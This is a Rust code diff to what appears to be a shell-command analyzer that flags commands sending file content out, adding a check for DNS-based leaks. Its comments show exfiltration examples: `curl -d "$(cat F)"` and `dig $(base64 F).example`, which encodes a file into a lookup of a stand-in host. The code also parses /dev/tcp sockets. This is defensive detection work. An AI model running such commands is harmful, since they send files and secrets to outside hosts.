@@ -3,12 +3,12 @@
 use super::arguments::Argument;
 use super::commands::{Reader, likely, parsed};
 use super::inputs::file;
-use super::line::{Command, Redirect, RedirectKind};
+use super::line::{Command, Redirect, RedirectKind, Word};
 use super::model::{Deeds, Effect, Kind, Scheme};
 use super::patch::{self, Change};
 use super::place::resolve;
 use super::roles::{Object, is_process};
-use super::text::Text;
+use super::text::{Symbol, Text};
 
 impl Reader<'_> {
     /// Files whose content is a part of what an argument sends: `curl -d "$(cat F)"`.
@@ -18,6 +18,8 @@ impl Reader<'_> {
             "DATA" => text.strip_prefix("@").is_none(),
             "FORM" => text.split_once('=').is_none_or(|(_, value)| !value.prefix().starts_with(['@', '<'])),
             "URL" => text.strip_prefix("file://").is_none() && !text.prefix().starts_with(['.', '/', '~']),
+            // `dig $(base64 F).example`
+            "HOST" => self.command.words.get(argument.at).is_some_and(is_within),
             _ => false,
         };
         let word = self.command.words.get(argument.at).filter(|_| is_text);
@@ -171,4 +173,11 @@ pub(super) fn sends_input(argument: &Argument) -> bool {
 fn socket(path: &Text) -> Option<Text> {
     let rest = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/"))?;
     rest.split('/').into_iter().next().filter(|host| !host.0.is_empty())
+}
+
+/// Whether text that is no address of a person follows an unknown part.
+fn is_within(word: &Word) -> bool {
+    !word.source.contains('@')
+        && !word.origins.is_empty()
+        && matches!(word.text.0.last(), Some(Symbol::Char(_)))
 }
